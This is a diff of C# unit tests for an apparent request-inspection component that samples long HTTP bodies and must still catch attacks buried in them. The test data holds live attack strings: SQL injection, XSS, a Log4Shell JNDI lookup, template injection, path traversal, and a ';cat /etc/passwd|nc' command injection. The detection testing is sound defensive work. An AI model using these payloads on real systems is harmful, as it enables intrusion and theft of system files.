@@ -46,10 +46,10 @@ public sealed class BodyWalkTests
     {
         const int Fillers = 30_000;
         int length = filler.Length * Fillers;
-        int between = length - WalkLimits.Default.Bytes / 4 * 3;
+        int between = length - WalkLimits.Default.Bytes / 2;
 
         // The start, the middle of the first and of the last window, the end.
-        int[] places = [0, WalkLimits.Default.Bytes / 2 + between / 16, WalkLimits.Default.Bytes / 2 + between / 16 * 15, length];
+        int[] places = [0, WalkLimits.Default.Bytes / 8 * 3 + between / 16, WalkLimits.Default.Bytes / 8 * 3 + between / 16 * 15, length];
         string comma = contentType.EndsWith("json", StringComparison.Ordinal) ? "," : "";
         string fillers = string.Concat(Enumerable.Repeat(filler, Fillers));
         foreach (int place in places)
@@ -63,7 +63,7 @@ public sealed class BodyWalkTests
     }
 
     [Fact]
-    public void Run_LongText_ReadsWindowsEvenlySpread()
+    public void Run_LongPlainText_ReadsWindowsEvenlySpread()
     {
         byte[] body = new byte[10_000_000];
         for (int i = 0; i < body.Length; i++)
@@ -73,9 +73,62 @@ public sealed class BodyWalkTests
 
         Walked walked = Walked.Body(body, "text/plain");
         walked.Values.Count.ShouldBe(2 + WalkLimits.Windows);
-        walked.Values.Sum(value => value.Length - "body=".Length).ShouldBeLessThanOrEqualTo(WalkLimits.Default.Bytes);
-        walked.Values.Sum(value => value.Length - "body=".Length).ShouldBeGreaterThan(WalkLimits.Default.Bytes - 256);
         walked.Values.Skip(1).Take(WalkLimits.Windows).Select(value => value[^1]).Distinct().Count().ShouldBe(WalkLimits.Windows);
+    }
+
+    [Fact]
+    public void Run_LongTextWithRareChunks_ReadsNoMoreThanTheLimit()
+    {
+        byte[] body = new byte[10_000_000];
+        body.AsSpan().Fill((byte)'a');
+        for (int i = 50_000; i < body.Length; i += 77_777) body[i] = (byte)"'<;|{"[i / 77_777 % 5];
+
+        Walked walked = Walked.Body(body, "text/plain");
+        walked.Values.Count.ShouldBeInRange(2 + WalkLimits.Windows, 2 + WalkLimits.Windows + WalkLimits.ChosenWindows);
+        walked.Values.Sum(value => value.Length - "body=".Length).ShouldBeInRange(WalkLimits.Default.Bytes - 8192, WalkLimits.Default.Bytes);
+    }
+
+    [Theory]
+    [InlineData("prose", "text/plain", "5' or 1=1-- -")]
+    [InlineData("prose", "text/plain", "<script>alert(1)</script>")]
+    [InlineData("prose", "text/plain", ";cat /etc/passwd|nc")]
+    [InlineData("zeros", "text/plain", "../../../etc/passwd")]
+    [InlineData("base64", "text/plain", "1) union select 2,3#")]
+    [InlineData("json", "application/json", "5' or 1=1-- -")]
+    [InlineData("json", "application/json", "${jndi:ldap://x.example/a}")]
+    [InlineData("json", "application/json", "{{7*7}}")]
+    [InlineData("form", "application/x-www-form-urlencoded", "1%27+or+%271%27%3D%271")]
+    [InlineData("form", "application/x-www-form-urlencoded", "%3Csvg%2Fonload%3Dalert(1)%3E")]
+    public void Run_AttackAnywhereInALongBody_IsRead(string padding, string contentType, string attack)
+    {
+        const int Length = 600_000;
+        const int Places = 37;
+        string text = Padding(padding, Length);
+        List<int> missed = [];
+        for (int i = 0; i < Places; i++)
+        {
+            int at = text.IndexOf(' ', StringComparison.Ordinal) < 0 ? Length / Places * i : text.IndexOf(padding == "form" ? '=' : ' ', Length / Places * i) + 1;
+            Walked walked = Walked.Body(Encoding.ASCII.GetBytes(text.Insert(at, attack)), contentType, new WalkLimits { Values = 20_000 });
+            if (!walked.Values.Any(value => value.Contains(attack, StringComparison.Ordinal))) missed.Add(at);
+            walked.Flags.ShouldBe(VerdictFlags.Truncated);
+        }
+
+        missed.ShouldBeEmpty();
+    }
+
+    [Theory]
+    [InlineData("application/json", "[{\"a\":true}", ",{\"b\":[false,null,-12.5e3,\"it's\"],\"c\":{\"d\":true}}", "]")]
+    [InlineData("text/xml", "<?xml version=\"1.0\"?><r>", "<i a=\"it's\">text &amp; more<!-- c --><![CDATA[d]]></i>", "</r>")]
+    [InlineData("multipart/form-data; boundary=xyz", "", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nit's\r\n", "--xyz--\r\n")]
+    public void Run_LongWholeBody_IsTruncatedAndNotBroken(string contentType, string start, string piece, string end)
+    {
+        byte[] body = Encoding.ASCII.GetBytes(start + string.Concat(Enumerable.Repeat(piece, 4_000_000 / piece.Length)) + end);
+        for (int shift = 0; shift < piece.Length; shift++)
+        {
+            // A limit that grows by one byte cuts the body at another place each time.
+            Walked walked = Walked.Body(body, contentType, new WalkLimits { Bytes = 100_000 + (8 * shift), Values = 100_000 });
+            walked.Flags.ShouldBe(VerdictFlags.Truncated);
+        }
     }
 
     [Theory]
@@ -102,5 +155,29 @@ public sealed class BodyWalkTests
         walked.Values.ShouldContain(value => value.Contains("X-B: it's", StringComparison.Ordinal) || value == "header:x-b=it's");
         walked.Values.ShouldContain(value => value.EndsWith("it's", StringComparison.Ordinal) && (value.StartsWith("form", StringComparison.Ordinal) || value.StartsWith("body", StringComparison.Ordinal)));
         walked.Flags.ShouldBe(VerdictFlags.Truncated | VerdictFlags.TooManyValues);
+    }
+
+    /// <summary>Made text of a kind, never twice the same sentence.</summary>
+    private static string Padding(string kind, int length)
+    {
+        var random = new Random(11);
+        string[] words = ["the", "don't", "house", "It's", "well-known", "river", "(often)", "and", "12", "3.5", "John's", "\"quoted\"", "seven", "at", "e.g.", "and/or", "read", "see", "years", "1999", "R&D"];
+        string[] ends = [". ", ", ", " ", " ", " ", " ", "; ", "! ", ": "];
+        string Word() => words[random.Next(words.Length)];
+        string Sentence() => string.Concat(Enumerable.Range(0, 12).Select(_ => Word() + ends[random.Next(ends.Length)]));
+        var text = new StringBuilder(kind == "json" ? "[" : "");
+        while (text.Length < length)
+        {
+            text.Append(kind switch
+            {
+                "prose" => Sentence(),
+                "zeros" => new string('0', 1000),
+                "base64" => Convert.ToBase64String(Encoding.Latin1.GetBytes(Sentence() + random.NextInt64())).TrimEnd('='),
+                "json" => $"{{\"id\":{random.Next()},\"name\":\"{Sentence().Replace("\"", "\\\"", StringComparison.Ordinal)}\",\"tags\":[\"{Word().Trim('"')}\",true],\"url\":\"https://a.example/{random.Next()}?b={random.Next()}\"}},",
+                _ => $"&n{random.Next(99)}={Uri.EscapeDataString(Sentence()).Replace("%20", "+", StringComparison.Ordinal)}",
+            });
+        }
+
+        return text.ToString() + (kind == "json" ? "0]" : "");
     }
 }
